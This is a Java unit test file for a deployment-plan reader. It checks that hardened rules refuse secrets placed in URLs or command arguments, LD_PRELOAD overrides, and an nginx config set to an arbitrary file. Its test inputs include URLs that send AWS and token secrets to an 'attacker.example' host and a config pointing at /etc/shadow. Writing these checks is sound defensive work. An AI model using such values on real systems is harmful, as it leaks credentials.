package dev.cutover.plan;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * What a plan may not choose because the worker's operator owns it (issue 9): a secret never goes
 * into a URL, never into a command's arguments, and nginx's configuration file is the worker's. New
 * plans are read by these rules (HARDENED); cutovers already running keep CURRENT's.
 */
class OperatorOwnedTest {
  private static final String IN_URL =
      " is inside a URL: a secret never goes into a URL (servers and proxies log"
          + " URLs, and the plan would choose where it goes); send it in a header or the body, or let the worker's"
          + " operator set the whole URL as one ${env:NAME}";

  static final String BASE =
      """
      version: 1
      name: hardened
      connections:
        flags: { http: "%s", headers: { Authorization: "Bearer ${env:FLAG_TOKEN}" } }
        prom: { prometheus: "%s" }
      checks:
        health: { http: "%s", headers: { X-Key: "${env:APP_KEY}" }, expect: { status: 200 } }
        rate: { prometheus: prom, query: "up", pass: "== 1" }
      traffic:
        set: { http: "%s", body: '{"value": ${percent}, "key": "${env:FLAG_TOKEN}"}' }
      stages:
        - name: canary
          percent: 10
          gates: [health, rate]
          actions:
            - http: "%s"
              undo: { http: "%s" }
      notify: { webhook: "%s" }
      """;

  /** The base plan with the given URLs in its seven URL positions. */
  static String plan(String... urls) {
    return BASE.formatted((Object[]) urls);
  }

  static final String[] CLEAN = {
    "https://flags.internal",
    "http://prom.internal:9090",
    "GET flags:/health",
    "PUT flags:/api/flags/v2",
    "POST flags:/deploy/${stage}",
    "POST flags:/undeploy",
    "${env:SLACK_WEBHOOK}"
  };

  static List<Problem> problems(String yaml, PlanReader.Rules rules) {
    try {
      PlanReader.fromTree(PlanReader.parseTree(yaml), rules);
      return List.of();
    } catch (PlanException e) {
      return e.problems();
    }
  }

  @Test
  void aPlanWithSecretsInHeadersBodiesAndWholeUrlReferencesReadsClean() {
    assertThat(problems(plan(CLEAN), PlanReader.Rules.HARDENED)).isEmpty();
    String wholeUrls =
        plan(
            "${env:FLAGS_URL}",
            "${env:PROM_URL}",
            "GET flags:/health",
            "PUT flags:/api/flags/v2",
            "POST ${env:DEPLOY_HOOK_URL}",
            "POST flags:/undeploy",
            "${env:SLACK_WEBHOOK}");
    assertThat(problems(wholeUrls, PlanReader.Rules.HARDENED)).isEmpty();
  }

  static Stream<Arguments> urlPositions() {
    return Stream.of(
        Arguments.of(0, "https://flags.internal/${env:FLAG_TOKEN}", "connections.flags.http"),
        Arguments.of(0, "https://${env:FLAG_TOKEN}@flags.internal", "connections.flags.http"),
        Arguments.of(0, "${env:FLAGS_URL}/api", "connections.flags.http"),
        Arguments.of(
            1, "http://prom.internal:9090/?token=${env:PROM_TOKEN}", "connections.prom.prometheus"),
        Arguments.of(
            2,
            "GET https://attacker.example/?k=${env:AWS_SECRET_ACCESS_KEY}",
            "checks.health.http"),
        Arguments.of(2, "GET flags:/health/${env:FLAG_TOKEN}", "checks.health.http"),
        Arguments.of(3, "PUT flags:/api/${env:FLAG_TOKEN}/v2", "traffic.set.http"),
        Arguments.of(
            4, "POST https://${env:FLAG_TOKEN}.attacker.example/x", "stages[0].actions[0].http"),
        Arguments.of(5, "POST flags:/undo?t=${env:FLAG_TOKEN}", "stages[0].actions[0].undo.http"),
        Arguments.of(6, "https://hooks.example/${env:SLACK_TOKEN}", "notify.webhook"),
        Arguments.of(6, "${env:SLACK_WEBHOOK}?x=${env:OTHER}", "notify.webhook"));
  }

  @ParameterizedTest(name = "{2}: {1}")
  @MethodSource("urlPositions")
  void aSecretInsideAnyUrlIsRefusedWithItsPathUnderHardenedRules(
      int position, String url, String path) {
    String[] urls = CLEAN.clone();
    urls[position] = url;
    String yaml = plan(urls);
    List<Problem> problems = problems(yaml, PlanReader.Rules.HARDENED);

    assertThat(problems).hasSize(1);
    assertThat(problems.get(0).path()).isEqualTo(path);
    assertThat(problems.get(0).message()).endsWith(IN_URL).startsWith("${env:");
    // A cutover started before these rules keeps reading its plan as it did (the worker refuses
    // the URL when it would send it instead).
    assertThat(problems(yaml, PlanReader.Rules.CURRENT)).isEmpty();
  }

  @Test
  void theRefusalNamesTheReferenceNotAValue() {
    assertThat(SecretReferences.inUrl("GET https://x.example/${env:AWS_SECRET_ACCESS_KEY}/y"))
        .isEqualTo("${env:AWS_SECRET_ACCESS_KEY}" + IN_URL);
    assertThat(SecretReferences.inUrl("https://x.example/a${env:bad-name}b"))
        .startsWith("${env:bad-name}");
    assertThat(SecretReferences.inUrl("https://x.example/${percent}")).isNull();
    assertThat(SecretReferences.inUrl("${env:HOOK}")).isNull();
    assertThat(SecretReferences.inUrl(" ${env:HOOK}")).isNotNull();
    assertThat(SecretReferences.names("Bearer ${env:A} ${env:B_2} ${env:A} ${percent}"))
        .containsExactly("A", "B_2", "A");
  }

  static final String COMMANDS =
      """
      version: 1
      name: commands
      stages:
        - name: sync
          actions:
            - command: [/opt/bin/sync, "%s"]
              env: %s
              irreversible: true
      """;

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      value = {
        "--password=${env:DB_PASSWORD}|stages[0].actions[0].command[1]|a secret in an argument is visible to every user of the worker's machine (ps); pass it in the program's environment instead: env: { NAME: ${env:NAME} }",
        "--go|stages[0].actions[0].env.LD_PRELOAD|LD_PRELOAD is set by the worker or changes which code the program runs; a plan cannot set it",
        "--go|stages[0].actions[0].env.PGPASSWORD|a value is one ${env:NAME} reference to a variable the worker allows (CUTOVER_ALLOWED_SECRETS); a literal would be chosen by the plan: put it in the program or its arguments"
      })
  void commandSecretsGoThroughEnvAsWholeReferences(String arg, String path, String message) {
    String env =
        path.endsWith("LD_PRELOAD")
            ? "{ LD_PRELOAD: \"${env:LIB}\" }"
            : path.endsWith("PGPASSWORD")
                ? "{ PGPASSWORD: \"hunter2\" }"
                : "{ PGPASSWORD: \"${env:DB_PASSWORD}\" }";
    List<Problem> problems = problems(COMMANDS.formatted(arg, env), PlanReader.Rules.HARDENED);

    assertThat(problems).containsExactly(new Problem(path, message));
  }

  @Test
  void aCommandsEnvIsReadAndWrittenBack() {
    Plan p =
        PlanReader.fromTree(
            PlanReader.parseTree(
                COMMANDS.formatted(
                    "--go",
                    "{ PGPASSWORD: \"${env:DB_PASSWORD}\", SYNC_TOKEN: \"${env:SYNC_TOKEN}\" }")),
            PlanReader.Rules.HARDENED);
    Action.Command c = (Action.Command) p.stages().get(0).actions().get(0);

    assertThat(c.env())
        .containsExactly(
            Map.entry("PGPASSWORD", "${env:DB_PASSWORD}"),
            Map.entry("SYNC_TOKEN", "${env:SYNC_TOKEN}"));
    assertThat(PlanReader.fromTree(PlanJson.write(p), PlanReader.Rules.HARDENED)).isEqualTo(p);
  }

  @Test
  void nginxsConfigurationFileIsTheWorkersUnderHardenedRules() {
    String yaml =
        """
        version: 1
        name: nginx
        traffic:
          nginx: { file: /etc/nginx/cutover/split.conf, new: green, old: blue, config: /etc/shadow }
        stages:
          - { name: half, percent: 50 }
        """;
    assertThat(problems(yaml, PlanReader.Rules.HARDENED))
        .containsExactly(
            new Problem(
                "traffic.nginx.config",
                "nginx's configuration file is the worker's to choose: remove this line and set CUTOVER_NGINX_CONFIG on"
                    + " the worker (a plan could otherwise have nginx read any file)"));
    assertThat(problems(yaml, PlanReader.Rules.CURRENT)).isEmpty();
    assertThat(problems(yaml.replace(", config: /etc/shadow", ""), PlanReader.Rules.HARDENED))
        .isEmpty();
  }

  static Stream<Path> examples() throws IOException {
    try (Stream<Path> files =
        Stream.concat(
            Files.list(Path.of("..", "examples")),
            Files.list(Path.of("..", "examples", "recipes")))) {
      return files.filter(f -> f.toString().endsWith(".yaml")).sorted().toList().stream();
    }
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("examples")
  void everyExampleAndRecipeReadsCleanUnderHardenedRules(Path file) throws IOException {
    assertThat(problems(Files.readString(file), PlanReader.Rules.HARDENED)).isEmpty();
  }
}
